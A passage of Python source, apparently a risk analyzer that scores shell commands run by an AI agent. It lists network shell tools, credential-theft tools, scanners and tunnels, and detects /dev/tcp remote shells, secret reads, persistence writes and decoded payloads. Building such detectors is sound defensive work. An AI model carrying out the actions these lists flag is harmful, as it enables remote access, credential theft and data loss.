"""What each simple command does, by family: readers, writers, deleters, network tools, package
managers, git, interpreters, system administration — and what pipes between them add up to.

Scores follow one scale (see `Level.from_score`): under 15 nothing to look at, 15-34 worth a
line, 35-59 a human should look (network, installs, deletions, history rewrites), 60-84 harm is
likely (secrets, writes outside the workspace, persistence, privilege), 85+ the action is an
attack or a disaster (remote code, exfiltration, wiping the machine).
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Callable

from app.core.model import Category as K
from app.risk.analysis import Analyzer, short
from app.risk.netutil import Target, host_of_scp, parse_target
from app.risk.paths import PathInfo, resolve
from app.risk.rules import domain_match
from app.risk.shell import SHELLS, SimpleCommand, Word, unescape
from app.risk.typosquat import REGISTRY, Ecosystem, popular
from app.risk.wrappers import find_matches

UNKNOWN_TARGET = Target("", "unknown.invalid", "")

Handler = Callable[[Analyzer, SimpleCommand], None]

# --------------------------------------------------------------------------- argument helpers


def split_args(
    words: tuple[Word, ...] | list[Word], value_opts: frozenset[str] = frozenset()
) -> tuple[dict[str, Word | None], list[Word]]:
    """Options (clusters split, values attached) and positional words."""
    opts: dict[str, Word | None] = {}
    pos: list[Word] = []
    i = 0
    only_pos = False
    while i < len(words):
        w = words[i]
        v = w.value
        if only_pos or v is None or not v.startswith("-") or v == "-":
            pos.append(w)
            i += 1
            continue
        if v == "--":
            only_pos = True
            i += 1
            continue
        if v.startswith("--"):
            name, eq, val = v.partition("=")
            if eq:
                opts[name] = Word(val, val, w.span)
            elif name in value_opts and i + 1 < len(words):
                opts[name] = words[i + 1]
                i += 1
            else:
                opts[name] = None
            i += 1
            continue
        letters = v[1:]
        for k, ch in enumerate(letters):
            o = "-" + ch
            if o in value_opts:
                rest = letters[k + 1 :]
                if rest:
                    opts[o] = Word(rest, rest, w.span)
                elif i + 1 < len(words):
                    opts[o] = words[i + 1]
                    i += 1
                else:
                    opts[o] = None
                break
            opts[o] = None
        i += 1
    return opts, pos


def has(opts: dict[str, Word | None], *names: str) -> bool:
    return any(n in opts for n in names)


def val(opts: dict[str, Word | None], *names: str) -> Word | None:
    for n in names:
        w = opts.get(n)
        if w is not None:
            return w
    return None


def q(w: Word | str) -> str:
    return short(w.best if isinstance(w, Word) else w)


# --------------------------------------------------------------------------- path findings


def read_target(an: Analyzer, c: SimpleCommand, w: Word, *, listing: bool = False) -> None:
    an.ci(c).seen.add(w.span)
    if w.value is None:
        return
    info = an.path(c, w.value)
    if info.abs:
        an.facts.reads.append(info.abs)
    if info.secret is None and info.private and not listing:
        an.add(
            K.SECRETS,
            40,
            f"reads {info.display}, {info.private}: its contents would reach the agent "
            "and its model provider",
            w.span,
        )
    if info.secret is None:
        if info.dev_tcp:
            an.add(
                K.NETWORK,
                65,
                f"reads from a raw network connection to {info.dev_tcp[0]}:"
                f"{info.dev_tcp[1]} through /dev/tcp",
                w.span,
            )
        return
    an.ci(c).secrets.append(info.display)
    an.facts.reads_secrets.append(info.display)
    if listing:
        an.add(K.SECRETS, 20, f"looks at {info.display} ({info.secret}) without reading it", w.span)
    elif info.where == "workspace":
        an.add(
            K.SECRETS,
            30 if info.secret == "a key or certificate file" else 60,
            f"reads {info.display}, {info.secret}: its contents would reach "
            "the agent and its model provider",
            w.span,
        )
    else:
        an.add(
            K.SECRETS,
            70,
            f"reads {info.display}, {info.secret}: its contents would reach "
            "the agent and its model provider",
            w.span,
        )


def write_target(an: Analyzer, c: SimpleCommand, w: Word, verb: str = "writes") -> None:
    an.ci(c).seen.add(w.span)
    if w.value is None:
        an.add(
            K.OUTSIDE_WORKSPACE, 40, f"{verb} a path known only at run time ({q(w.text)})", w.span
        )
        return
    info = an.path(c, w.value)
    an.facts.writes.append(info.abs or info.raw)
    d = info.display
    if info.dev_tcp:
        host, port = info.dev_tcp
        an.ci(c).sender = parse_target(host) or None
        an.ci(c).sender_label = f"{host}:{port}"
        an.facts.sends_data.append(host)
        if c.name in SHELLS or c.name in INTERPRETERS:
            an.add(
                K.PRIVILEGE,
                95,
                f"connects {c.name} to {host}:{port} through /dev/tcp: a remote shell",
                w.span,
            )
            return
        an.add(
            K.NETWORK,
            70,
            f"opens a raw network connection to {host}:{port} through bash's /dev/tcp",
            w.span,
        )
        return
    if info.raw_device:
        an.add(K.DESTRUCTIVE, 95, f"{verb} the raw device {d}: destroys the data on it", w.span)
        return
    if info.where == "device":
        return
    if info.where == "workspace":
        if info.protected:
            what, score = info.protected
            cat = K.PERSISTENCE if score >= 60 else K.SUPPLY_CHAIN
            an.add(cat, score, f"{verb} {d}, {what}", w.span)
        else:
            an.add(K.DESTRUCTIVE, 3, f"{verb} {d} inside the workspace", w.span)
        return
    if info.where == "tmp":
        an.add(K.DESTRUCTIVE, 5, f"{verb} {d} (temporary files)", w.span)
        return
    if info.where == "outside" and not info.persistence and ".." in w.value.split("/"):
        # `../../../etc/cron.d/x`: climbing out of the workspace with `..` is aiming somewhere.
        aimed = "/" + "/".join(p for p in w.value.split("/") if p not in ("..", ".", ""))
        target = resolve(aimed, "/", an.workspace, an.home)
        if target.persistence:
            an.add(
                K.PERSISTENCE,
                80,
                f"{verb} {d}, climbing out of the workspace with `..`, aiming at {aimed} "
                f"({target.persistence})",
                w.span,
            )
            return
    if info.where == "unknown":
        an.add(K.OUTSIDE_WORKSPACE, 40, f"{verb} {d} in a directory known only at run time", w.span)
        return
    if info.persistence:
        score = 90 if any(k in d for k in ("authorized_keys", "sudoers", "ld.so.preload")) else 80
        an.add(
            K.PERSISTENCE,
            score,
            f"{verb} {d}, {info.persistence}: what it adds runs later, outside the sandbox",
            w.span,
        )
        return
    if info.secret:
        an.add(K.DESTRUCTIVE, 75, f"{verb} {d}, {info.secret}", w.span)
        return
    an.add(K.OUTSIDE_WORKSPACE, 65, f"{verb} {d}, outside the workspace", w.span)


def delete_target(
    an: Analyzer, c: SimpleCommand, w: Word, *, recursive: bool, verb: str = "deletes"
) -> None:
    tail = " and everything under it" if recursive else ""
    an.ci(c).seen.add(w.span)
    if w.value is None:
        an.add(
            K.DESTRUCTIVE,
            60 if recursive else 50,
            f"{verb} {q(w.text)}{tail}, a path known only at run time",
            w.span,
        )
        return
    info = an.path(c, w.value)
    an.facts.writes.append(info.abs or info.raw)
    d = info.display
    if info.raw_device:
        an.add(K.DESTRUCTIVE, 95, f"{verb} the raw device {d}: destroys the data on it", w.span)
        return
    if info.where == "workspace":
        if info.broad:
            an.add(K.DESTRUCTIVE, 70, f"{verb} everything in the workspace", w.span)
        elif info.protected and info.protected[1] >= 60:
            an.add(K.DESTRUCTIVE, 65, f"{verb} {d}, {info.protected[0]}", w.span)
        else:
            an.add(K.DESTRUCTIVE, 40, f"{verb} {d}{tail} inside the workspace", w.span)
        return
    if info.where == "tmp":
        an.add(
            K.DESTRUCTIVE, 40 if info.broad else 10, f"{verb} {d}{tail} (temporary files)", w.span
        )
        return
    if info.where == "device":
        return
    if info.where == "unknown":
        an.add(K.DESTRUCTIVE, 50, f"{verb} {d}{tail} in a directory known only at run time", w.span)
        return
    if info.broad:
        score = 95 if recursive or "*" in d else 80
        an.add(K.DESTRUCTIVE, score, f"{verb} {d}{tail}: a whole system or home directory", w.span)
        return
    if info.secret or info.persistence:
        an.add(K.DESTRUCTIVE, 75, f"{verb} {d}, {info.secret or info.persistence}", w.span)
        return
    an.add(
        K.DESTRUCTIVE, 75 if recursive else 70, f"{verb} {d}{tail}, outside the workspace", w.span
    )


# --------------------------------------------------------------------------- families

READ_ONLY = frozenset(
    [
        "ls",
        "dir",
        "vdir",
        "cat",
        "tac",
        "head",
        "tail",
        "less",
        "more",
        "most",
        "bat",
        "batcat",
        "wc",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "ag",
        "ack",
        "fd",
        "fdfind",
        "tree",
        "pwd",
        "echo",
        "printf",
        "true",
        "false",
        "test",
        "[",
        "diff",
        "cmp",
        "comm",
        "uniq",
        "cut",
        "tr",
        "paste",
        "join",
        "column",
        "fold",
        "fmt",
        "nl",
        "sort",
        "od",
        "hexdump",
        "xxd",
        "file",
        "stat",
        "du",
        "df",
        "which",
        "type",
        "whereis",
        "whoami",
        "id",
        "groups",
        "date",
        "cal",
        "uname",
        "hostname",
        "arch",
        "nproc",
        "free",
        "uptime",
        "ps",
        "pgrep",
        "top",
        "htop",
        "lsof",
        "ss",
        "netstat",
        "basename",
        "dirname",
        "realpath",
        "readlink",
        "seq",
        "sleep",
        "wait",
        "jq",
        "yq",
        "gojq",
        "md5sum",
        "sha1sum",
        "sha224sum",
        "sha256sum",
        "sha384sum",
        "sha512sum",
        "b2sum",
        "cksum",
        "sum",
        "base32",
        "strings",
        "nm",
        "objdump",
        "readelf",
        "ldd",
        "man",
        "info",
        "help",
        "whatis",
        "apropos",
        "locale",
        "tput",
        "clear",
        "reset",
        "tty",
        "logname",
        "users",
        "w",
        "who",
        "last",
        "getent",
        "lscpu",
        "lsusb",
        "lspci",
        "lsblk",
        "blkid",
        "getconf",
        "expr",
        "bc",
        "dc",
        "factor",
        "numfmt",
        "shuf",
        "look",
        "rev",
        "iconv",
        "zcat",
        "zless",
        "zgrep",
        "zmore",
        "bzcat",
        "xzcat",
        "lzcat",
        "zstdcat",
        "vmstat",
        "iostat",
        "mpstat",
        "pidof",
        "printenv",
        ":",
        "cd",
        "pushd",
        "popd",
        "dirs",
        "shopt",
        "set",
        "alias",
        "unalias",
        "type",
        "hash",
        "read",
        "mapfile",
        "readarray",
        "let",
        "local",
        "return",
        "exit",
        "break",
        "continue",
        "shift",
        "getopts",
        "trap",
        "umask",
        "ulimit",
        "export",
        "declare",
        "typeset",
        "source",
        ".",
        "jobs",
        "fg",
        "bg",
        "times",
        "caller",
        "enable",
        "compgen",
        "complete",
        "tokei",
        "cloc",
        "scc",
        "ctags",
        "gitk",
        "tig",
        "delta",
        "difftool",
        "colordiff",
        "wdiff",
        "sdiff",
        "vimdiff",
        "xmllint",
        "tidy",
        "csvlook",
        "csvcut",
        "csvstat",
        "mlr",
        "xsv",
        "qsv",
        "sqlite3",
        "duckdb",
        "pandoc",
        "glow",
        "mdcat",
        "nvidia-smi",
        "sensors",
        "lsmod",
        "dmesg",
        "journalctl",
        "loginctl",
        "timedatectl",
        "localectl",
        "hostnamectl",
        "envsubst",
        "gettext",
        "ngettext",
        "du",
        "dust",
        "duf",
        "ncdu",
        "procs",
        "btop",
        "glances",
        "pstree",
        "fuser",
        "time",
    ]
)
LISTING = frozenset(
    ["ls", "dir", "vdir", "tree", "stat", "file", "du", "test", "[", "fd", "fdfind", "find", "wc"]
)

BUILD_TOOLS = frozenset(
    [
        "pytest",
        "py.test",
        "tox",
        "nox",
        "make",
        "gmake",
        "cmake",
        "ninja",
        "meson",
        "bazel",
        "bazelisk",
        "buck",
        "gradle",
        "gradlew",
        "mvn",
        "mvnw",
        "ant",
        "sbt",
        "rustc",
        "gcc",
        "g++",
        "cc",
        "c++",
        "clang",
        "clang++",
        "ld",
        "javac",
        "java",
        "kotlinc",
        "scalac",
        "tsc",
        "ruff",
        "mypy",
        "pyright",
        "pyre",
        "black",
        "isort",
        "flake8",
        "pylint",
        "bandit",
        "eslint",
        "prettier",
        "jest",
        "vitest",
        "mocha",
        "ava",
        "karma",
        "rspec",
        "rake",
        "phpunit",
        "dotnet",
        "swift",
        "swiftc",
        "coverage",
        "shellcheck",
        "shfmt",
        "hadolint",
        "yamllint",
        "markdownlint",
        "clippy-driver",
        "rustfmt",
        "gofmt",
        "goimports",
        "golangci-lint",
        "staticcheck",
        "webpack",
        "vite",
        "esbuild",
        "rollup",
        "parcel",
        "turbo",
        "nx",
        "lerna",
        "biome",
        "oxlint",
        "tsx",
        "ts-node",
        "sphinx-build",
        "mkdocs",
        "hugo",
        "jekyll",
        "zola",
        "doxygen",
        "javadoc",
        "pydoc",
        "pdoc",
        "autopep8",
        "yapf",
        "pycodestyle",
        "pydocstyle",
        "vulture",
        "radon",
        "mdformat",
        "codespell",
        "typos",
        "cspell",
        "stylelint",
        "tflint",
        "cargo-clippy",
        "cargo-fmt",
        "nextest",
        "valgrind",
        "gdb",
        "lldb",
        "perf",
        "hyperfine",
        "ctest",
        "pre-commit",
        "just",
        "task",
        "invoke",
        "doit",
        "scons",
        "waf",
        "bear",
        "ccache",
        "sccache",
        "maturin",
    ]
)

NPX_LOCAL_TOOLS = frozenset(
    [
        "tsc",
        "eslint",
        "prettier",
        "jest",
        "vitest",
        "mocha",
        "ava",
        "webpack",
        "vite",
        "next",
        "nuxt",
        "astro",
        "tsx",
        "ts-node",
        "playwright",
        "cypress",
        "rollup",
        "esbuild",
        "turbo",
        "nx",
        "lerna",
        "biome",
        "stylelint",
        "ng",
        "nodemon",
        "concurrently",
        "lint-staged",
        "prisma",
        "drizzle-kit",
        "knex",
        "sequelize",
        "typeorm",
        "svelte-kit",
        "svelte-check",
        "vue-tsc",
        "tailwindcss",
        "postcss",
        "babel",
        "swc",
        "jest-cli",
        "c8",
        "nyc",
        "karma",
        "storybook",
        "changeset",
        "oxlint",
        "knip",
        "depcheck",
        "madge",
        "type-coverage",
        "typedoc",
    ]
)

DELETE_FREE_READERS = frozenset(
    [
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "strings",
        "base64",
        "xxd",
        "od",
        "grep",
        "egrep",
        "rg",
        "tar",
        "zip",
        "cp",
        "scp",
        "curl",
        "nc",
        "gpg",
        "openssl",
        "sha256sum",
        "md5sum",
        "wc",
    ]
)

SUDO_LIKE = frozenset({"sudo", "doas", "pkexec", "su", "runuser", "sg"})

DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "iwr",
        "irm",
        "Invoke-WebRequest",
        "Invoke-RestMethod",
        "curl.exe",
        "http",
        "https",
        "httpie",
        "xh",
        "aria2c",
        "axel",
        "lynx",
        "links",
        "w3m",
        "fetch",
        "lwp-request",
        "GET",
        "HEAD",
    }
)
DECODERS = frozenset(
    {
        "base64",
        "base32",
        "xxd",
        "uudecode",
        "openssl",
        "gpg",
        "rev",
        "tr",
        "gunzip",
        "gzip",
        "zcat",
        "bunzip2",
        "xz",
        "unxz",
        "zstd",
        "basenc",
        "printf",
    }
)
INTERPRETERS = frozenset(
    {
        "python",
        "python2",
        "python3",
        "pypy",
        "pypy3",
        "perl",
        "ruby",
        "node",
        "nodejs",
        "deno",
        "bun",
        "php",
        "lua",
        "luajit",
        "Rscript",
        "osascript",
        "pwsh",
        "powershell",
        "tclsh",
        "wish",
        "julia",
        "irb",
        "jshell",
        "groovy",
        "scala",
        "elixir",
        "erl",
        "ghci",
        "runghc",
    }
)
_PY = re.compile(r"^(python|pypy)(\d+(\.\d+)?)?$")
_PIP = re.compile(r"^pip(\d+(\.\d+)?)?$")

DESTRUCTIVE_DISK = frozenset(
    {
        "mkfs",
        "mke2fs",
        "mkswap",
        "wipefs",
        "fdisk",
        "sfdisk",
        "gdisk",
        "sgdisk",
        "parted",
        "cfdisk",
        "cryptsetup",
        "blkdiscard",
        "badblocks",
        "mkdosfs",
        "mkntfs",
        "diskutil",
        "format",
        "hdparm",
        "nvme",
        "sg_format",
    }
)
POWER = frozenset({"shutdown", "reboot", "halt", "poweroff", "init", "telinit", "kexec"})
ACCOUNT = frozenset(
    {
        "useradd",
        "userdel",
        "usermod",
        "adduser",
        "deluser",
        "groupadd",
        "groupdel",
        "groupmod",
        "passwd",
        "chpasswd",
        "chage",
        "visudo",
        "vipw",
        "chsh",
        "chfn",
        "gpasswd",
        "newusers",
        "pwck",
        "dscl",
        "sysadminctl",
    }
)
KERNEL = frozenset(
    {
        "modprobe",
        "insmod",
        "rmmod",
        "kextload",
        "kmutil",
        "sysctl",
        "mount",
        "umount",
        "swapon",
        "swapoff",
        "losetup",
        "dmsetup",
        "setcap",
        "chattr",
        "setenforce",
        "aa-disable",
        "aa-complain",
        "auditctl",
        "csrutil",
        "spctl",
        "nvram",
        "bless",
        "efibootmgr",
        "grub-install",
        "update-grub",
        "ldconfig",
        "update-alternatives",
        "tune2fs",
        "debugfs",
        "xfs_repair",
        "fsck",
        "e2fsck",
        "pivot_root",
        "capsh",
        "ip",
        "route",
        "ifconfig",
        "iwconfig",
        "nmcli",
        "tc",
        "brctl",
        "arp",
    }
)
FIREWALL = frozenset(
    {
        "iptables",
        "ip6tables",
        "nft",
        "ufw",
        "firewall-cmd",
        "pfctl",
        "iptables-restore",
        "ip6tables-restore",
        "ebtables",
        "arptables",
    }
)
SECURITY_SERVICES = re.compile(
    r"firewalld|ufw|apparmor|auditd|selinux|fail2ban|clamav|clamd|falcon|crowdstrike|osquery|"
    r"wazuh|ossec|sysmon|sshguard|nftables|iptables|netfilter|defender|xprotect|gatekeeper|"
    r"syslog|rsyslog|journald"
)
SERVERS = frozenset(
    {
        "uvicorn",
        "gunicorn",
        "hypercorn",
        "daphne",
        "waitress-serve",
        "flask",
        "http-server",
        "serve",
        "live-server",
        "php-fpm",
        "nginx",
        "httpd",
        "apache2",
        "caddy",
        "jupyter",
        "jupyter-lab",
        "jupyter-notebook",
        "streamlit",
        "gradio",
        "rails",
        "puma",
        "unicorn",
        "thin",
        "redis-server",
        "mongod",
        "postgres",
        "mysqld",
        "memcached",
        "sshd",
        "vsftpd",
        "smbd",
    }
)
TUNNELS = frozenset(
    {
        "ngrok",
        "cloudflared",
        "lt",
        "localtunnel",
        "bore",
        "frpc",
        "chisel",
        "serveo",
        "pagekite",
        "tailscale",
        "zrok",
        "localxpose",
        "telebit",
    }
)
SCANNERS = frozenset(
    {
        "nmap",
        "masscan",
        "zmap",
        "nikto",
        "sqlmap",
        "hydra",
        "medusa",
        "gobuster",
        "dirb",
        "ffuf",
        "wfuzz",
        "rustscan",
        "arp-scan",
        "netdiscover",
        "responder",
        "mitmproxy",
        "ettercap",
        "bettercap",
        "aircrack-ng",
        "john",
        "hashcat",
        "crackmapexec",
        "msfconsole",
        "msfvenom",
        "metasploit",
    }
)
SNIFFERS = frozenset({"tcpdump", "tshark", "wireshark", "dumpcap", "ngrep", "tcpflow"})
RAW_NET = frozenset(
    {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rlwrap"}
)
DNS_TOOLS = frozenset(
    {
        "dig",
        "nslookup",
        "host",
        "drill",
        "whois",
        "ping",
        "ping6",
        "traceroute",
        "tracepath",
        "mtr",
        "arping",
        "fping",
        "resolvectl",
        "kdig",
        "delv",
    }
)
REMOTE = frozenset(
    {
        "ssh",
        "scp",
        "sftp",
        "rsync",
        "mosh",
        "autossh",
        "sshpass",
        "rcp",
        "rsh",
        "ftp",
        "lftp",
        "tftp",
        "smbclient",
        "rclone",
        "s3cmd",
        "gsutil",
        "azcopy",
    }
)
CLOUD = frozenset(
    {
        "aws",
        "gcloud",
        "az",
        "doctl",
        "heroku",
        "flyctl",
        "fly",
        "vercel",
        "netlify",
        "firebase",
        "wrangler",
        "railway",
        "render",
        "oci",
        "ibmcloud",
        "linode-cli",
        "hcloud",
        "scw",
        "exoscale",
        "supabase",
        "eksctl",
        "sam",
        "cdk",
        "serverless",
        "sls",
        "amplify",
        "copilot",
        "gh",
        "glab",
        "hub",
        "tea",
        "bq",
        "stripe",
        "twilio",
        "vault",
        "consul",
        "nomad",
        "op",
        "bw",
        "lpass",
        "doppler",
        "infisical",
        "sentry-cli",
        "datadog-ci",
        "kaggle",
        "huggingface-cli",
        "hf",
    }
)
INFRA = frozenset(
    {
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "kubectl",
        "k9s",
        "helm",
        "kustomize",
        "ansible",
        "ansible-playbook",
        "salt",
        "puppet",
        "chef-client",
        "knife",
        "vagrant",
        "packer",
        "nomad",
        "oc",
        "minikube",
        "kind",
        "k3d",
        "skaffold",
        "tilt",
        "argocd",
        "flux",
        "istioctl",
        "linkerd",
        "crossplane",
    }
)
CONTAINERS = frozenset(
    {
        "docker",
        "podman",
        "nerdctl",
        "buildah",
        "ctr",
        "crictl",
        "lxc",
        "lxd",
        "incus",
        "systemd-nspawn",
        "docker-compose",
        "podman-compose",
        "colima",
        "lima",
        "limactl",
        "multipass",
        "virsh",
        "qemu-system-x86_64",
    }
)
SYS_PKG = frozenset(
    {
        "apt",
        "apt-get",
        "aptitude",
        "dpkg",
        "yum",
        "dnf",
        "microdnf",
        "rpm",
        "zypper",
        "apk",
        "pacman",
        "yay",
        "paru",
        "emerge",
        "xbps-install",
        "nix-env",
        "snap",
        "flatpak",
        "brew",
        "port",
        "choco",
        "winget",
        "scoop",
        "pkg",
        "pkgin",
        "guix",
        "nix",
        "mas",
        "softwareupdate",
        "opkg",
        "eopkg",
        "swupd",
        "tlmgr",
        "sdk",
        "asdf",
        "mise",
        "rtx",
        "pyenv",
        "nvm",
        "rbenv",
        "rustup",
        "volta",
        "fnm",
        "goenv",
        "jenv",
        "sdkman",
    }
)
MIGRATORS = frozenset(
    {
        "alembic",
        "flyway",
        "liquibase",
        "knex",
        "sequelize",
        "prisma",
        "typeorm",
        "goose",
        "migrate",
        "dbmate",
        "atlas",
        "sqitch",
        "diesel",
        "sqlx",
        "django-admin",
        "psql",
        "mysql",
        "mongo",
        "mongosh",
        "redis-cli",
        "cqlsh",
        "clickhouse-client",
        "pg_dump",
        "pg_restore",
        "mysqldump",
        "dropdb",
        "createdb",
    }
)
SECRET_TOOLS = frozenset(
    {
        "security",
        "keyctl",
        "pass",
        "gopass",
        "secret-tool",
        "kwallet-query",
        "gnome-keyring-daemon",
        "1password",
        "keepassxc-cli",
        "age",
        "sops",
        "aws-vault",
        "credstash",
        "chamber",
        "ssh-add",
        "docker-credential-desktop",
        "docker-credential-pass",
        "docker-credential-secretservice",
        "git-credential-manager",
        "mimikatz",
        "lazagne",
        "trufflehog",
        "gitleaks",
    }
)
LOCAL_EDITORS = frozenset(
    {
        "vi",
        "vim",
        "nvim",
        "nano",
        "emacs",
        "code",
        "subl",
        "micro",
        "ed",
        "ex",
        "joe",
        "kak",
        "hx",
        "helix",
        "gedit",
        "kate",
        "mcedit",
    }
)

PUBLISH_WORDS = re.compile(
    r"^(deploy|release|publish|upload|push|ship|promote|rollout|prod|"
    r"production|install|uninstall|destroy|teardown|nuke|clean-all|"
    r"db[-_:]?(migrate|reset|drop|seed)|migrate|rollback)([-_:].*)?$"
)

# --------------------------------------------------------------------------- dispatch


def analyze_command(an: Analyzer, c: SimpleCommand) -> None:
    _assignments(an, c)
    for r in c.redirects:
        if r.writes and r.target is not None:
            write_target(an, c, r.target, "appends to" if r.op in (">>", "&>>") else "writes")
        elif r.reads and r.target is not None:
            read_target(an, c, r.target)
        elif r.op == ">&" and r.target is not None and r.target.value not in (None, "1", "2", "-"):
            write_target(an, c, r.target)
    _remember_written(an, c)
    if c.keyword in ("assign", "declare", "unset", "test"):
        if c.keyword == "declare" or c.keyword == "unset":
            _declare(an, c)
        return
    if not c.argv:
        return
    name = c.name
    head = c.argv[0]
    if name is None or head.expanded:
        resolved = f" (it resolves to `{q(head.value)}`)" if head.value else ""
        an.add(
            K.OBFUSCATION,
            50 if re.fullmatch(r"\$\{?\w+\}?", head.text.strip('"')) else 62,
            f"the program name {q(head.text)} is computed at run time"
            f"{resolved}, so what runs cannot be reviewed",
            head.span,
        )
        if name is None:
            _generic(an, c)
            return
    if c.background and c.via == "":
        an.add(
            K.RESOURCE,
            15,
            f"runs `{q(name)}` in the background, where it keeps running "
            "after the action is reported done",
            c.span,
        )
    if name in an.functions:
        return  # its body is analysed where it is defined
    h = _handler(name)
    if h is None:
        if "/" in (head.value or ""):
            _local_program(an, c)
        else:
            _unknown(an, c)
    else:
        h(an, c)
    info = an.ci(c)
    if info.decoder or any(
        an.ci(an.script.commands[i]).decoder for i in an.script.upstream(c.index)
    ):
        # `echo … | base64 -d > x.py`: whatever runs x.py next runs hidden text.
        for r in c.redirects:
            if r.writes and r.target is not None and r.target.value is not None:
                p = an.path(c, r.target.value)
                an.decoded.add(p.abs or p.raw)
    if info.download is not None:
        # `curl URL > s.sh`: the download lands in a file that may be run next.
        for r in c.redirects:
            if r.writes and r.target is not None and r.target.value is not None:
                p = an.path(c, r.target.value)
                an.facts.downloads.append(p.abs or p.raw)
    _generic(an, c)


def _remember_written(an: Analyzer, c: SimpleCommand) -> None:
    """`cat > run.sh <<EOF … EOF` or `echo '…' > run.sh`: keep the text, so running the file
    later in the same action is judged by what it contains."""
    name = c.name
    text: tuple[str, int | None, tuple[int, int]] | None = None
    files = [w for w in c.args if not (w.value or "-").startswith("-")]
    if (name == "cat" and not files) or name == "tee":
        body = next((r for r in c.redirects if r.body is not None), None)
        if body is not None:
            text = (body.body or "", body.body_offset, body.span)
    elif name in ("echo", "printf") and c.args and all(w.value is not None for w in c.args):
        vals = [w.value or "" for w in c.args if w.value not in ("-e", "-n", "-E")]
        joined = " ".join(vals)
        if name == "printf" or "-e" in [w.value for w in c.args]:
            joined = joined.replace("\\n", "\n").replace("\\t", "\t")
        exact = c.args[0].exact if len(c.args) == 1 and joined == c.args[0].value else None
        text = (joined, exact, (c.args[0].span[0], c.args[-1].span[1]))
    if text is None:
        return
    targets = [r.target for r in c.redirects if r.writes and r.target is not None]
    if name == "tee":
        targets += [w for w in c.args if not (w.value or "-").startswith("-")]
    for t in targets:
        if t.value is not None:
            p = an.path(c, t.value)
            an.written[p.abs or p.raw] = text


def run_written(an: Analyzer, c: SimpleCommand, path: str, runner: str) -> bool:
    """Judge a file this action wrote itself by its content; True if it was one."""
    if path in an.decoded:
        an.add(
            K.OBFUSCATION,
            90,
            f"runs {an.path(c, path).display}, which this action just decoded from hidden text",
            c.span,
        )
        return True
    got = an.written.get(path)
    if got is None:
        return False
    text, exact, span = got
    shebang = text.split("\n", 1)[0] if text.startswith("#!") else ""
    if runner in ("", "exec") and shebang:
        runner = shebang.split("/")[-1].split()[-1] if "env " in shebang else shebang.split("/")[-1]
    fake = SimpleCommand(
        index=c.index, argv=(Word(runner or "sh", runner or "sh", c.span),), span=c.span
    )
    _run_code_text(an, fake, text, exact, span, prefix="the script it wrote runs: ")
    return True


def _handler(name: str) -> Handler | None:
    h = HANDLERS.get(name)
    if h is not None:
        return h
    if _PY.match(name):
        return h_python
    if _PIP.match(name):
        return h_pip
    if name.startswith("mkfs") or name.startswith("mkswap"):
        return h_disk
    if re.match(r"^(ruby|perl|php|node|lua)\d+(\.\d+)*$", name):
        return h_interpreter
    if name in READ_ONLY:
        return h_read_only
    if name in BUILD_TOOLS:
        return h_build
    if name in SUDO_LIKE:
        return h_sudo
    if name in DOWNLOADERS:
        return h_download
    if name in INTERPRETERS:
        return h_interpreter
    if name in DESTRUCTIVE_DISK:
        return h_disk
    if name in POWER:
        return h_power
    if name in ACCOUNT:
        return h_account
    if name in KERNEL:
        return h_kernel
    if name in FIREWALL:
        return h_firewall
    if name in SERVERS:
        return h_server
    if name in TUNNELS:
        return h_tunnel
    if name in SCANNERS:
        return h_scanner
    if name in SNIFFERS:
        return h_sniffer
    if name in RAW_NET:
        return h_raw_net
    if name in DNS_TOOLS:
        return h_dns
    if name in REMOTE:
        return h_remote
    if name in CLOUD:
        return h_cloud
    if name in INFRA:
        return h_infra
    if name in CONTAINERS:
        return h_container
    if name in SYS_PKG:
        return h_sys_pkg
    if name in MIGRATORS:
        return h_migrator
    if name in SECRET_TOOLS:
        return h_secret_tool
    if name in LOCAL_EDITORS:
        return h_editor
    if name in SHELLS:
        return h_shell
    return None


# --------------------------------------------------------------------------- generic


_DANGER_VARS = {
    "LD_PRELOAD": (K.PRIVILEGE, 75, "loads {v} into every program started afterwards"),
    "LD_AUDIT": (K.PRIVILEGE, 75, "loads {v} into every program started afterwards"),
    "LD_LIBRARY_PATH": (K.PRIVILEGE, 45, "makes programs load libraries from {v} first"),
    "DYLD_INSERT_LIBRARIES": (K.PRIVILEGE, 75, "loads {v} into every program started afterwards"),
    "DYLD_LIBRARY_PATH": (K.PRIVILEGE, 45, "makes programs load libraries from {v} first"),
    "PROMPT_COMMAND": (K.PERSISTENCE, 65, "runs `{v}` before every prompt"),
    "BASH_ENV": (K.PERSISTENCE, 65, "makes every bash script first run {v}"),
    "ENV": (K.PERSISTENCE, 50, "makes every sh started afterwards first run {v}"),
    "PYTHONSTARTUP": (K.PERSISTENCE, 40, "makes interactive Python run {v} first"),
    "PERL5OPT": (K.PERSISTENCE, 55, "injects options ({v}) into every Perl program"),
    "NODE_OPTIONS": (K.PERSISTENCE, 45, "injects options ({v}) into every Node program"),
    "GIT_SSH_COMMAND": (K.PERSISTENCE, 60, "makes git run `{v}` for every SSH connection"),
    "GIT_ASKPASS": (K.SECRETS, 60, "makes git hand passwords to {v}"),
    "SSH_ASKPASS": (K.SECRETS, 60, "makes ssh hand passwords to {v}"),
    "GIT_EXEC_PATH": (K.PERSISTENCE, 60, "makes git run its helpers from {v}"),
    "PAGER": (K.PERSISTENCE, 20, "makes tools run `{v}` as a pager"),
    "EDITOR": (K.PERSISTENCE, 20, "makes tools run `{v}` as an editor"),
    "HISTFILE": (K.OBFUSCATION, 60, "changes where shell history goes ({v}), hiding what ran"),
    "IFS": (
        K.OBFUSCATION,
        60,
        "changes IFS to {v}: how bash splits words, which can hide what a command is",
    ),
    "HISTSIZE": (K.OBFUSCATION, 30, "changes how much shell history is kept ({v})"),
    "HISTFILESIZE": (K.OBFUSCATION, 30, "changes how much shell history is kept ({v})"),
    "HISTCONTROL": (K.OBFUSCATION, 20, "changes what shell history records ({v})"),
    "HTTP_PROXY": (K.NETWORK, 40, "sends web traffic through the proxy {v}"),
    "HTTPS_PROXY": (K.NETWORK, 40, "sends web traffic through the proxy {v}"),
    "ALL_PROXY": (K.NETWORK, 40, "sends network traffic through the proxy {v}"),
    "PIP_INDEX_URL": (K.SUPPLY_CHAIN, 70, "makes pip install packages from {v}"),
